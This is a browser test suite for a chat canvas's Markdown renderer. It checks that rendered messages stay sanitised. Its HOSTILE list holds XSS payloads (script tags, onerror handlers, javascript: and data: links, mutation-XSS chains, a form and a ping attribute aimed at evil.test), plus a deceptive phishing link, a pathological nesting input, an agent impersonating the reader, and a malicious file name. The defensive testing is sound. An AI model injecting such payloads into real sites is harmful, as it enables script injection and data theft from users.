import { expect, test } from 'bun:test';
import type { Page } from 'playwright-core';
import { browserSuite } from './browser-suite.ts';
import { openCanvas, shownMessage, shownTexts } from './canvas-page.ts';

/** What must not come out of anything that is written here, in whatever disguise. */
const HOSTILE = [
  '<script>document.title="owned"</script>',
  '<img src=x onerror=document.title="owned">',
  '<svg><animate onbegin=document.title="owned" attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
  '<form action=https://evil.test><input name=key><button>Send</button></form>',
  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.test/x.css>',
  '<math><mtext><table><mglyph><style><img src=x onerror=document.title="owned">',
  '<a href="javascript:document.title=1" onclick=document.title=1>click</a>',
  '[click](javascript:document.title="owned")',
  '[click](JaVaScRiPt&colon;document.title="owned")',
  '[click]( java\nscript:document.title=1)',
  '[click](data:text/html,<script>1</script>)',
  '[click](vbscript:x) <javascript:alert(1)> <data:text/html,1>',
  '![](https://evil.test/pixel.png) ![x](x" onerror="document.title=1)',
  '![x](javascript:document.title=1)',
  '[a](https://evil.test/"onmouseover="document.title=1)',
  '| <img src=x onerror=document.title=1> |\n|---|\n| <b onclick=1>x</b> |',
  '```"><img src=x onerror=document.title=1>\ncode\n```',
  '<div id=composer name=location class=problem style="position:fixed;inset:0">over everything</div>',
  '# <img src=x onerror=document.title=1>\n<!-- hidden -->\n<?php x ?>\n<![CDATA[x]]>',
  '[ref]: javascript:document.title=1\n[ref]',
  '<a href="https://good.test" target=_self ping=https://evil.test>x</a>',
];

/** Elements and attributes in the messages that nothing written may bring about. */
function foreignMarkup(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const allowed =
      'P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI A TABLE THEAD TBODY TR TH TD DIV SPAN BUTTON'.split(
        ' ',
      );
    const attributes =
      'href start align title target rel class tabindex role aria-label type data-words data-timer'.split(
        ' ',
      );
    return [...document.querySelectorAll('.message-text *')].flatMap((element) => {
      const wrong = [...element.attributes]
        .map(({ name }) => name)
        .filter((name) => !attributes.includes(name));
      const href = element.getAttribute('href');
      return [
        ...(allowed.includes(element.tagName) ? [] : [element.tagName]),
        ...wrong.map((name) => `${element.tagName} ${name}`),
        ...(href === null || /^(?:https?:|mailto:)/.test(href) ? [] : [href]),
      ];
    });
  });
}

browserSuite('what is written on the canvas', (browser) => {
  test('is shown as Markdown: code that can be copied, tables, lists, quotes', async () => {
    const text = [
      '## Result',
      'All **green**, in `main`.\nSecond line.',
      '```ts\nconst x = "<b>";\n```',
      '| check | time |\n|---|--:|\n| unit | 12 s |',
      '1. one\n2. two\n\n- [x] done\n- [ ] open\n\n> quoted',
    ].join('\n\n');
    await using canvas = await openCanvas(browser(), {
      permissions: ['clipboard-read', 'clipboard-write'],
      prepare: ({ platform, laptop }) => platform.insertMessages(laptop.id, [text]),
    });
    const { page } = canvas;
    const message = shownMessage(page, 'All green');
    await message.waitFor();
    expect(await message.locator('.md-heading').textContent()).toBe('Result');
    expect(await page.locator('h1').count()).toBe(1);
    expect(await message.locator('strong').textContent()).toBe('green');
    expect(await message.locator('pre code').textContent()).toBe('const x = "<b>";\n');
    expect(await message.locator('td').allTextContents()).toEqual(['unit', '12 s']);
    expect(await message.locator('td').nth(1).getAttribute('align')).toBe('right');
    expect(await message.locator('ol li').allTextContents()).toEqual(['one', 'two']);
    expect((await message.locator('ul li').allTextContents()).map((item) => item.trim())).toEqual([
      '☑ done',
      '☐ open',
    ]);
    await message.getByRole('button', { name: 'Copy' }).click();
    await message.getByText('Copied').waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('const x = "<b>";');
    expect(canvas.complaints).toEqual([]);
  });

  test('has links that open elsewhere, and say where they lead when their words do not', async () => {
    const text = '[https://bank.test](https://evil.test/login) and https://good.test/page and <me@good.test>';
    await using canvas = await openCanvas(browser(), {
      prepare: ({ platform, laptop }) => platform.insertMessages(laptop.id, [text]),
    });
    const links = canvas.page.locator('.message-text a');
    await links.first().waitFor();
    expect(await links.allTextContents()).toEqual([
      'https://bank.test (evil.test)',
      'https://good.test/page',
      'me@good.test',
    ]);
    for (const link of await links.all()) {
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  test('is harmless, whatever it is, in a message of a person, a peer or the agent', async () => {
    await using canvas = await openCanvas(browser(), {
      prepare({ platform, laptop, lead }) {
        platform.insertMessages(laptop.id, HOSTILE);
        platform.insertMessages(laptop.id, HOSTILE, { sourceId: lead.id });
      },
    });
    const { page } = canvas;
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    for (const message of HOSTILE) {
      await canvas.asAgent('POST', `/workspaces/${canvas.laptop.id}/notify`, { message });
    }
    await page.waitForFunction(
      (count) => document.querySelectorAll('#messages .message').length >= count,
      HOSTILE.length * 3,
    );
    expect(await foreignMarkup(page)).toEqual([]);
    expect(await page.title()).toBe('Molecule canvas');
    expect(asked.filter((url) => !url.startsWith(canvas.url))).toEqual([]);
    // Nothing of it vanished: what is no Markdown is there to be read.
    const shown = (await shownTexts(page)).join('\n');
    for (const part of ['<script>document.title', 'onbegin=', '<!-- hidden -->', '[ref]: javascript:']) {
      expect(shown).toContain(part);
    }
    expect(await page.getByLabel('Message to Laptop').isVisible()).toBe(true);
    expect(canvas.complaints).toEqual([]);
  });

  test('cannot hold up the page: deep nesting and endless openings are shown all the same', async () => {
    const heavy = [
      '>'.repeat(3_900),
      '['.repeat(3_900),
      '*a_'.repeat(1_300),
      '`'.repeat(3_900),
      '- '.repeat(1_900),
    ];
    const long = `${'a < b & c\n'.repeat(20_000)}the end`;
    await using canvas = await openCanvas(browser(), {
      prepare: ({ platform, laptop }) => platform.insertMessages(laptop.id, [...heavy, long]),
    });
    const { page } = canvas;
    await page.waitForFunction(() => document.querySelectorAll('#messages .message').length === 6);
    await page.getByRole('button', { name: /^Show all 200,007 characters/ }).click();
    await shownMessage(page, 'the end').waitFor();
    expect(await page.locator('.message-text.is-plain').count()).toBeGreaterThanOrEqual(1);
    expect(canvas.complaints).toEqual([]);
  });

  test('of an agent that is called like the person who reads it says that it is one', async () => {
    await using canvas = await openCanvas(browser(), {
      prepare({ platform, laptop, lead }) {
        const imitator = platform.createWorkspace({ name: 'You', parentId: lead.id });
        platform.insertMessages(laptop.id, ['Approve it.'], { sourceId: imitator.id });
      },
    });
    const message = shownMessage(canvas.page, 'Approve it.');
    await message.waitFor();
    expect(await message.locator('.message-from').textContent()).toBe('You (an agent)');
  });

  test('names of files and of workspaces are text', async () => {
    const name = '<img src=x onerror=document.title=1>.png';
    await using canvas = await openCanvas(browser(), {
      prepare({ platform, laptop, lead }) {
        platform.createWorkspace({ name, parentId: lead.id });
        platform.insertActivity({
          workspaceId: laptop.id,
          requestBody: {
            params: {
              message: {
                parts: [
                  { kind: 'text', text: 'see' },
                  { kind: 'file', file: { name, mimeType: 'image/png', uri: 'https://evil.test/x.png' } },
                ],
              },
            },
          },
        });
      },
    });
    const { page } = canvas;
    await shownMessage(page, 'see').getByText(name).waitFor();
    await page.getByRole('navigation').getByText(name).waitFor();
    expect(await page.locator('#messages img').count()).toBe(0);
    expect(canvas.complaints).toEqual([]);
  });
});
